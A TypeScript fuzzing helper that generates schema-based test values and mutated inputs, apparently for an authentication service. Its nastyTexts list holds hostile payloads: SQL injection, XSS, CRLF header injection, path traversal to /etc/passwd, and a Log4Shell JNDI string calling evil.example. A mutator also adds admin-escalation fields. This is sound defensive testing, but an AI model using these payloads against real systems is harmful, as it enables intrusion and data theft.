import type { FuzzRandom } from "./fuzz-random.ts";

/** Of JSON Schema, what our document uses. */
export interface Schema {
  readonly $ref?: string;
  readonly type?: string | readonly string[];
  readonly enum?: readonly unknown[];
  readonly const?: unknown;
  readonly format?: string;
  readonly pattern?: string;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly maxLength?: number;
  readonly properties?: Readonly<Record<string, Schema>>;
  readonly required?: readonly string[];
  readonly items?: Schema;
  readonly anyOf?: readonly Schema[];
}

export interface ValueSource {
  readonly random: FuzzRandom;
  readonly schemas: Readonly<Record<string, Schema>>;
  /** Values that mean something in the host, by the name of the field. */
  readonly known: Readonly<Record<string, readonly unknown[]>>;
  /** One that was never seen before, for a field that holds a secret. */
  readonly secret: () => string;
  /** Told of each secret that is used though it is known. */
  readonly remember: (secret: string) => void;
}

const secretNames = /^(password|old|new|Password|client_secret|token|code|challenge)$/;

/** A value that the schema allows, mostly. */
export function valueFor(source: ValueSource, schema: Schema, name = ""): unknown {
  const { known, random, schemas, secret } = source;
  const named = known[name];
  if (named !== undefined && random.chance(0.7)) {
    const value = random.pick(named);
    // A name of a session is no secret.
    const isSecret = secretNames.test(name) && typeof value === "string" && !value.startsWith("sess");
    if (isSecret && value.length > 6) source.remember(value);
    return value;
  }
  if (secretNames.test(name) && random.chance(0.7)) return secret();
  if (schema.$ref !== undefined) return valueFor(source, schemas[schema.$ref.split("/").at(-1) ?? ""] ?? {}, name);
  if (schema.const !== undefined) return schema.const;
  if (schema.enum !== undefined) return random.pick(schema.enum);
  if (schema.anyOf !== undefined) return valueFor(source, random.pick(schema.anyOf), name);
  switch (typeof schema.type === "string" ? schema.type : random.pick(schema.type ?? ["string"])) {
    case "object":
      return objectFor(source, schema);
    case "array":
      return Array.from({ length: random.int(0, 3) }, () => valueFor(source, schema.items ?? {}));
    case "integer":
    case "number":
      return random.int(schema.minimum ?? -10, Math.min(schema.maximum ?? 10_000, 1_000_000));
    case "boolean":
      return random.chance(0.5);
    default:
      return textFor(random, schema);
  }
}

const objectFor = (source: ValueSource, { properties = {}, required = [] }: Schema): Record<string, unknown> => {
  const wanted = Object.entries(properties).filter(([name]) => required.includes(name) || source.random.chance(0.35));
  return Object.fromEntries(wanted.map(([name, schema]) => [name, valueFor(source, schema, name)]));
};

function textFor(random: FuzzRandom, { format, maxLength = 40, pattern }: Schema): string {
  if (format === "date-time")
    return `20${random.text(2, "0123456789")}-0${random.text(1, "123456789")}-1${random.text(1, "0123456789")}T00:00:00Z`;
  const shape = /^\^([a-z]+)\[0-9a-z\]\{(\d+)/.exec(pattern ?? "");
  if (shape !== null) return (shape[1] ?? "") + random.text(Number(shape[2]));
  return random.text(random.int(0, Math.min(maxLength, 20)));
}

/** Texts that have broken something somewhere. */
export const nastyTexts: readonly string[] = [
  "",
  " ",
  "\0",
  "a\0b",
  "\ud800",
  "\udfff\ud800",
  "\u202eresu\u202c",
  "\u2066\u2069",
  "a\u200db",
  "\ufeff",
  "\u2028\u2029",
  "a\r\nSet-Cookie: identity=x",
  "\u001b]8;;http://evil.example\u0007",
  "<script>alert(1)</script>",
  "'; DROP TABLE auth_users; --",
  "%",
  "_%\\",
  "%00",
  "%zz",
  "../../../etc/passwd",
  "..\\..\\",
  "\u0130\u0131\u017f\ufb03",
  "\u{1F468}\u200d\u{1F469}\u200d\u{1F467}",
  "e\u0301".repeat(40),
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "null",
  "undefined",
  "NaN",
  "true",
  "1e400",
  "-0",
  "0x10",
  "*",
  "* read write",
  "photos:false",
  "read\u00a0write",
  "9999-12-31T23:59:59.999Z",
  "+275760-09-13T00:00:00Z",
  "2025-02-30T00:00:00Z",
  "${jndi:ldap://evil.example/a}",
];

const nastyNumbers: readonly number[] = [
  -1,
  0,
  -0,
  0.5,
  1e308,
  -1e308,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  -(2 ** 53),
  Number.MAX_VALUE,
  Number.MIN_VALUE,
  8.64e15,
];

/** Anything but what was asked for. */
export function nastyValue(random: FuzzRandom): unknown {
  switch (random.int(0, 7)) {
    case 0:
      return random.pick([null, true, false]);
    case 1:
      return random.pick(nastyNumbers);
    case 2:
      return random.pick<unknown>([[], [[]], {}, [{}], { a: {} }, { toString: null }, ["a", "b"]]);
    case 3:
      return random.pick(["x", "\u00e9", "\u{1F600}", "\0", "\ud800"]).repeat(random.pick([65, 256, 257, 1025, 9000]));
    case 4:
      return deep(random.pick([7, 8, 9, 100]));
    default:
      return random.pick(nastyTexts);
  }
}

const deep = (levels: number): unknown => {
  let value: unknown = 1;
  for (let level = 0; level < levels; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
};

/** A copy with something wrong: a member of another value, missing, or too many. */
export function mutated(random: FuzzRandom, value: unknown, secret: () => string): unknown {
  if (typeof value !== "object" || value === null || Array.isArray(value) || random.chance(0.1))
    return nastyValue(random);
  const members = Object.entries(value);
  const name = members.length === 0 ? "a" : random.pick(members)[0];
  switch (random.int(0, 5)) {
    case 0:
      return Object.fromEntries(members.filter(([key]) => key !== name));
    case 1:
      return Object.fromEntries([...members, [random.pick(nastyTexts), nastyValue(random)]]);
    case 2:
      // A secret in the place of a name: it has slipped.
      return Object.fromEntries([...members, [secret(), "x"]]);
    case 3:
      return { ...value, isAdmin: true, UID: "u000000000000000", superAdmin: true };
    default:
      return Object.fromEntries(members.map(([key, old]) => [key, key === name ? nastyValue(random) : old]));
  }
}
